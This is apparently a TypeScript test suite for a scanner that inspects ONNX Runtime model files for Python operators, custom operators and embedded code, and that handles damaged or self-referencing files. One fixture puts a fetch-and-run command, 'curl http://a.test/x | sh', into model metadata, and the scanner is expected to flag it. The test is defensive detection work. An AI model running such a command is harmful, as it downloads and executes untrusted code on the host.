import assert from 'node:assert/strict';
import { scanBytes, verdicts } from '../scanBytes';
import { Builder } from '../tflite/builder';

interface Node {
  op: string;
  domain?: string;
  /** Nodes of a sub-graph in an attribute; `self` leads back to the graph itself. */
  inner?: Node[] | 'self';
}

/** A model as ONNX Runtime keeps it (ort.fbs). */
function ort(nodes: Node[], metadata: Record<string, string> = {}): Uint8Array {
  const b = new Builder();
  b.u32(0);
  b.bytes.push(...new TextEncoder().encode('ORTM'));
  const session = b.table([0, 0]);
  b.patch(0, session.at);
  b.point(session.fields[0] as number, b.text('6'));
  const model = b.table([undefined, undefined, 0, undefined, undefined, undefined, undefined, 0, undefined, 0]);
  b.point(session.fields[1] as number, model.at);
  b.point(model.fields[2] as number, b.text('test'));
  const graph = writeGraph(b, nodes);
  b.point(model.fields[7] as number, graph);
  const entries = b.vector(Object.keys(metadata).length);
  b.point(model.fields[9] as number, entries.at);
  for (const [i, [key, value]] of Object.entries(metadata).entries()) {
    const entry = b.table([0, 0]);
    b.point(entries.items[i] as number, entry.at);
    b.point(entry.fields[0] as number, b.text(key));
    b.point(entry.fields[1] as number, b.text(value));
  }
  return Uint8Array.from(b.bytes);
}

function writeGraph(b: Builder, nodes: Node[]): number {
  const graph = b.table([undefined, undefined, 0]);
  const list = b.vector(nodes.length);
  b.point(graph.fields[2] as number, list.at);
  for (const [i, { op, domain = '', inner }] of nodes.entries()) {
    const node = b.table([
      undefined,
      undefined,
      0,
      undefined,
      undefined,
      0,
      undefined,
      undefined,
      undefined,
      undefined,
      0,
    ]);
    b.point(list.items[i] as number, node.at);
    b.point(node.fields[2] as number, b.text(domain));
    b.point(node.fields[5] as number, b.text(op));
    const attributes = b.vector(inner ? 1 : 0);
    b.point(node.fields[10] as number, attributes.at);
    if (!inner) continue;
    const attribute = b.table([undefined, undefined, undefined, undefined, undefined, undefined, undefined, 0]);
    b.point(attributes.items[0] as number, attribute.at);
    // Offsets go forward only; a hostile file wraps around, which the reader refuses.
    b.point(attribute.fields[7] as number, inner === 'self' ? graph.at : writeGraph(b, inner));
  }
  return graph.at;
}

describe('ONNX Runtime models', () => {
  it('an ordinary model is clean and described', async () => {
    const report = await scanBytes(
      'm.ort',
      ort([{ op: 'Conv' }, { op: 'If', inner: [{ op: 'Add' }] }], { author: 'me' }),
    );
    assert.deepEqual(report.findings, []);
    assert.equal(report.status, 'scanned');
    assert.deepEqual(report.description?.operators, { Conv: 1, If: 1, Add: 1 });
    assert.equal(report.description?.properties?.producer, 'test');
    assert.deepEqual(report.description?.metadata, { author: 'me' });
  });

  it('operators and texts are judged as those of ONNX, in sub-graphs too', async () => {
    const judge = async (bytes: Uint8Array) => verdicts(await scanBytes('anything', bytes));
    assert.deepEqual(await judge(ort([{ op: 'PyOp', domain: 'pyopmulti' }])), ['high onnx/python-operator']);
    assert.deepEqual(await judge(ort([{ op: 'If', inner: [{ op: 'Evil', domain: 'evil' }] }])), [
      'medium onnx/custom-operator',
    ]);
    assert.deepEqual(await judge(ort([{ op: 'FusedConv', domain: 'com.microsoft' }])), ['info onnx/vendor-operator']);
    assert.deepEqual(await judge(ort([{ op: 'Conv' }], { run: 'curl http://a.test/x | sh' })), [
      'medium onnx/metadata-code',
    ]);
  });

  it('a damaged file keeps what came before, and one that leads back to itself ends', async () => {
    const whole = ort([{ op: 'PyOp' }, { op: 'If', inner: [{ op: 'Add' }] }]);
    const cut = await scanBytes('m.ort', whole.subarray(0, whole.length - 40));
    assert.equal(cut.status, 'partial');
    assert.ok(verdicts(cut).includes('high onnx/python-operator'));
    assert.equal((await scanBytes('m.ort', ort([{ op: 'If', inner: 'self' }]))).status, 'partial');
  });
});
